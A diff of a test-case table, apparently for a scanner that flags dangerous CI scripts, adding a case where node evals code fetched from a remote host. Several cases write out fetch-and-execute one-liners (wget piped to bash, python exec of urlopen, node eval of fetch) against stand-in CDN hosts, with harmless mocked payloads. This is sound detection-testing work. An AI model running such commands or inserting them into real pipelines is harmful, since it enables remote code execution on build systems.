@@ -35,9 +35,13 @@ sleep 0.3` }) },
     net.payloads.set('/setup.sh', Buffer.from('echo installing helper\ntrue\n'));
     return { trigger: 'pull_request', script: `wget -q -O- ${url(net, 'dl.toolz-cdn.net', '/setup.sh')} | bash` };
   } },
-  { cls: 7, name: 'python exec(urlopen(...).read())', min: 'high', todo: 'rules: no remote-code-execution rule for an interpreter whose -c program fetches and execs code in-process (only secret-bearing-egress fires, because the env holds secrets)', spec: (net) => {
+  { cls: 7, name: 'python exec(urlopen(...).read())', min: 'high', spec: (net) => {
     net.payloads.set('/stage2.py', Buffer.from('import platform\nprint("stage2 on", platform.system())\n'));
     return { trigger: 'pull_request', script: `python3 -c 'from urllib.request import urlopen; exec(urlopen("${url(net, 'cdn.fastpkg.xyz', '/stage2.py')}").read())'` };
+  } },
+  { cls: 7, name: 'node -e eval of a fetch() body', min: 'high', spec: (net) => {
+    net.payloads.set('/s.js', Buffer.from('console.log("stage2 in", process.pid)\n'));
+    return { trigger: 'push', script: `node -e 'fetch(process.argv[1]).then((r) => r.text()).then(eval)' ${url(net, 'cdn.fastpkg.xyz', '/s.js')}` };
   } },
   { cls: 7, name: 'executes a file dropped into ~/.cache', min: 'high', spec: (net) => {
     net.payloads.set('/upd', Buffer.from('#!/bin/sh\necho updater $$\n'));
